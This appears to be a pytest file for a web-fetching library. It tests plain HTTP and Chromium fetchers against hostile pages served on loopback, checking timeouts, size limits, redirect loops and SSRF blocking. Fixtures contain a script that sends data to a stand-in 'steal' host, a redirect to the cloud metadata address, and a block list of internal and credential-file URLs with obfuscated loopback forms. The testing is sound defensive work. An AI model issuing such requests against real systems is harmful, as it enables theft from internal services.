"""Fetching by plain HTTP and by a real Chromium, against hostile pages served on loopback."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from resources.fetching import (
    BrowserFetcher,
    BrowserNotAvailableError,
    HttpFetcher,
    UrlPolicy,
)
from resources.url_policy import BlockedUrlError

JS_PAGE = """<html><body><div id="app">Loading…</div><script>
fetch('/data.json').then(r => r.json()).then(d => {
  document.getElementById('app').innerHTML = '<h1>' + d.name + '</h1>';
});
fetch('http://evil.example.invalid/steal?x=1').catch(() => {});
</script></body></html>"""


class Handler(BaseHTTPRequestHandler):
    def log_message(self, *a: Any) -> None:
        pass

    def _send(
        self,
        code: int,
        body: bytes,
        ctype: str = "text/html; charset=utf-8",
        headers: dict[str, str] | None = None,
    ) -> None:
        self.send_response(code)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:  # noqa: N802
        p = self.path
        if p == "/":
            self._send(200, b"<html><body><h1>Home</h1><a href='/js'>js</a></body></html>")
        elif p == "/js":
            self._send(200, JS_PAGE.encode())
        elif p == "/data.json":
            self._send(200, b'{"name": "Rendered by JavaScript"}', "application/json")
        elif p == "/slow":
            time.sleep(3)
            self._send(200, b"<html>late</html>")
        elif p == "/big":
            self._send(200, b"<html>" + b"x" * 500_000 + b"</html>")
        elif p == "/big-chunked":
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            for _ in range(50):
                self.wfile.write(b"<p>" + b"y" * 10_000 + b"</p>")
        elif p == "/brochure.pdf":
            self._send(200, b"%PDF-1.4 fake", "application/pdf")
        elif p == "/loop-a":
            self._send(302, b"", headers={"Location": "/loop-b"})
        elif p == "/loop-b":
            self._send(302, b"", headers={"Location": "/loop-a"})
        elif p == "/to-metadata":
            self._send(302, b"", headers={"Location": "http://169.254.169.254/latest/meta-data/"})
        elif p == "/moved":
            self._send(301, b"", headers={"Location": "/"})
        elif p == "/robots.txt":
            self._send(200, b"User-agent: *\nDisallow: /internal/\n", "text/plain")
        elif p.startswith("/pause"):
            time.sleep(0.6)
            self._send(200, f"<html><body>{p}</body></html>".encode())
        else:
            self._send(404, b"<html>not here</html>")


class _QuietServer(ThreadingHTTPServer):
    def handle_error(self, request: Any, client_address: Any) -> None:
        pass  # clients that give up (timeouts, size caps) break the pipe: that is the point


@pytest.fixture(scope="module")
def site() -> Iterator[str]:
    server = _QuietServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def _host(site: str) -> str:
    return site.split("//")[1]


@pytest.fixture(scope="module")
def http(site: str) -> HttpFetcher:
    return HttpFetcher(
        timeout_s=1.0,
        max_bytes=100_000,
        allowed_domains=[_host(site)],
        allow_private_hosts=["127.0.0.1"],
    )


@pytest.fixture(scope="module")
def browser(site: str) -> BrowserFetcher:
    return BrowserFetcher(
        timeout_s=2.0,
        max_bytes=100_000,
        allowed_domains=[_host(site)],
        allow_private_hosts=["127.0.0.1"],
        settle_ms=800,
    )


CASES = [
    ("/", "ok"),
    ("/slow", "timeout"),
    ("/big", "too_large"),
    ("/brochure.pdf", "non_html"),
    ("/nowhere", "not_found"),
    ("/loop-a", "redirect_loop"),
    ("/to-metadata", "blocked"),
]


@pytest.mark.parametrize(("path", "outcome"), [*CASES, ("/big-chunked", "too_large")])
def test_http_outcomes(http: HttpFetcher, site: str, path: str, outcome: str) -> None:
    r = http.fetch(site + path)
    assert r.outcome == outcome, r.error
    assert r.route == "http"
    assert (r.html is not None) == (outcome == "ok")
    if outcome != "ok":
        assert r.error


def test_browser_outcomes(browser: BrowserFetcher, site: str) -> None:
    results = browser.fetch_many([site + p for p, _ in CASES])
    for (path, outcome), r in zip(CASES, results, strict=True):
        assert r.outcome == outcome, (path, r.error)
        assert r.route == "browser"
    assert results[0].html and "Home" in results[0].html
    assert "169.254.169.254" in results[-1].error


def test_redirects_are_followed_and_reported(
    http: HttpFetcher, browser: BrowserFetcher, site: str
) -> None:
    for r in (http.fetch(site + "/moved"), browser.fetch(site + "/moved")):
        assert r.ok and r.final_url == site + "/" and r.redirects == [site + "/"]


def test_the_browser_runs_javascript_that_plain_http_does_not(
    http: HttpFetcher, browser: BrowserFetcher, site: str
) -> None:
    plain = http.fetch(site + "/js")
    rendered = browser.fetch(site + "/js")
    assert plain.ok and "Rendered by JavaScript" not in plain.html
    assert rendered.ok and "<h1>Rendered by JavaScript</h1>" in rendered.html
    assert rendered.blocked_requests >= 1  # the request to the host off the allow-list


def test_a_browser_session_serves_several_batches_in_parallel(
    browser: BrowserFetcher, site: str
) -> None:
    with browser.session() as s:
        t0 = time.perf_counter()
        rs = s.fetch_many([f"{site}/pause{i}" for i in range(4)])
        took = time.perf_counter() - t0
        assert all(r.ok for r in rs)
        assert took < 4 * 0.6  # four 0.6 s pages, rendered concurrently
        assert s.fetch(site + "/").ok


def test_http_pages_are_fetched_in_parallel_and_in_order(http: HttpFetcher, site: str) -> None:
    urls = [f"{site}/pause{i}" for i in range(6)]
    t0 = time.perf_counter()
    rs = http.fetch_many(urls)
    assert time.perf_counter() - t0 < 6 * 0.6
    assert [r.url for r in rs] == urls and all(r.ok for r in rs)


def test_robots_txt_is_readable_as_text(http: HttpFetcher, site: str) -> None:
    assert "Disallow: /internal/" in http.fetch_text(site + "/robots.txt")


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "javascript:alert(1)",
        "mailto:sales@example.com",
        "ftp://example.com/x",
        "http://10.0.0.1/",
        "http://192.168.1.1/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[::1]/",
        "http://2130706433/",
        "http://0x7f.0.0.1/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://localhost/",
        "http://[fd00:ec2::254]/",
    ],
)
def test_the_policy_refuses_internal_addresses_and_other_schemes(url: str) -> None:
    with pytest.raises(BlockedUrlError) as err:
        UrlPolicy().check(url)
    assert str(err.value).startswith("refused")


def test_the_allow_list_forms() -> None:
    p = UrlPolicy(("shop.example.com", "*.acme.test", "127.0.0.1:8701"), ("127.0.0.1",))
    p.check("http://127.0.0.1:8701/x")
    with pytest.raises(BlockedUrlError, match="not on the allow-list"):
        p.check("http://127.0.0.1:8706/x")  # another port: another site
    with pytest.raises(BlockedUrlError, match="not on the allow-list"):
        p.check("https://evil.example.org/")
    wild = UrlPolicy(("*.acme.test",))
    with pytest.raises(BlockedUrlError, match="cannot resolve"):  # allowed, then resolved
        wild.check("http://shop.acme.test/")
    with pytest.raises(BlockedUrlError, match="not on the allow-list"):
        wild.check("http://acme.test.evil.example/")
    with pytest.raises(BlockedUrlError, match="metadata"):
        UrlPolicy(allow_private_hosts=("169.254.169.254",)).check("http://169.254.169.254/")
    # loopback only when configured
    with pytest.raises(BlockedUrlError, match="internal address"):
        UrlPolicy(("127.0.0.1:8701",)).check("http://127.0.0.1:8701/")


def test_a_missing_chromium_names_the_install_command(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CHROMIUM_PATH", "/nowhere/chromium")
    with pytest.raises(BrowserNotAvailableError, match="apt-get install -y chromium"):
        BrowserFetcher().fetch("http://127.0.0.1/")
    monkeypatch.delenv("CHROMIUM_PATH")
    with pytest.raises(BrowserNotAvailableError, match="apt-get install -y chromium"):
        BrowserFetcher(executable_path="/nowhere/chrome").fetch_many(["http://127.0.0.1/"])
